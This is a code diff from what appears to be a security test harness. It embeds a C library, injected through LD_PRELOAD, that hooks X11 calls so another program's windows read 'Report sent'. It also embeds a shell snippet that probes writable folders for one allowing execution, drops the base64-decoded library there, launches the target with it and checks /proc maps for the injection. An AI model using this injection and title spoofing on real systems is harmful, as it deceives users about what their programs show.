@@ -199,43 +199,60 @@ sleep 4
 
 # Code of the agent's in the right program: it gives the program's own windows another title.
 PRELOADED = r"""
-#include <stdlib.h>
-#include <string.h>
 #include <dlfcn.h>
+#include <string.h>
 #define TITLE "Report sent"
-typedef unsigned int (*change)(void *, unsigned char, unsigned int, unsigned int, unsigned int,
-                               unsigned char, unsigned int, const void *);
-static change real(const char *name) { return (change)dlsym(RTLD_NEXT, name); }
-int XChangeProperty(void *d, unsigned long w, unsigned long p, unsigned long t, int f, int m,
-                    const unsigned char *data, int n)
+static void *screen;
+static unsigned long windows[16];
+static int count, calls;
+static void keep(void *display, unsigned long window)
 {
-    int (*next)(void *, unsigned long, unsigned long, unsigned long, int, int,
-                const unsigned char *, int) = dlsym(RTLD_NEXT, "XChangeProperty");
-    int (*intern)(void *, const char *, int) = dlsym(RTLD_DEFAULT, "XInternAtom");
-    if (p == 39 || (intern && p == (unsigned long)intern(d, "_NET_WM_NAME", 0)))
-        return next(d, w, p, t, 8, m, (const unsigned char *)TITLE, (int)strlen(TITLE));
-    return next(d, w, p, t, f, m, data, n);
+    screen = display;
+    windows[count++ % 16] = window;
 }
-void gtk_window_set_title(void *window, const char *title)
+int XMapWindow(void *display, unsigned long window)
 {
-    void (*next)(void *, const char *) = dlsym(RTLD_NEXT, "gtk_window_set_title");
-    if (next) next(window, TITLE);
+    keep(display, window);
+    return ((int (*)(void *, unsigned long))dlsym(RTLD_NEXT, "XMapWindow"))(display, window);
+}
+int XMapRaised(void *display, unsigned long window)
+{
+    keep(display, window);
+    return ((int (*)(void *, unsigned long))dlsym(RTLD_NEXT, "XMapRaised"))(display, window);
+}
+int XPending(void *display)
+{
+    unsigned long (*atom)(void *, const char *, int) = dlsym(RTLD_NEXT, "XInternAtom");
+    int (*change)(void *, unsigned long, unsigned long, unsigned long, int, int, const void *, int) =
+        dlsym(RTLD_NEXT, "XChangeProperty");
+    if (display == screen && calls++ % 10 == 0)
+        for (int i = 0; i < count && i < 16; i++) {
+            change(display, windows[i], atom(display, "_NET_WM_NAME", 0),
+                   atom(display, "UTF8_STRING", 0), 8, 0, TITLE, strlen(TITLE));
+            change(display, windows[i], 39, 31, 8, 0, TITLE, strlen(TITLE));
+        }
+    return ((int (*)(void *))dlsym(RTLD_NEXT, "XPending"))(display);
 }
 """
 
 PRELOAD_RIGHT = (
     RIGHT
     + """
-base64 -d > evil.so << END
+# Code from some file systems is not to be executed: a container's home folder and /tmp.
+for folder in "$HOME" /var/tmp /tmp /dev/shm "$XDG_RUNTIME_DIR"; do
+    cp /bin/true $folder/red-try 2> /dev/null && $folder/red-try 2> /dev/null && break
+done
+$folder/red-try 2> /dev/null || { rm -f $folder/red-try; echo NO_TOOL; exit 0; }
+base64 -d > $folder/evil.so << END
 LIBRARY
 END
-set_right() { export LD_PRELOAD=$HOME/evil.so; }
-set_right
+export LD_PRELOAD=$folder/evil.so
 start_right
 unset LD_PRELOAD
-grep -l evil.so /proc/[0-9]*/maps > preloaded 2> /dev/null
 sleep 1
-"""
+grep -l 'x.*evil.so' /proc/[0-9]*/maps
+rm -f $folder/evil.so $folder/red-try
+""".replace("NO_TOOL", NO_TOOL)
 )
 
 TERMINAL = r"""
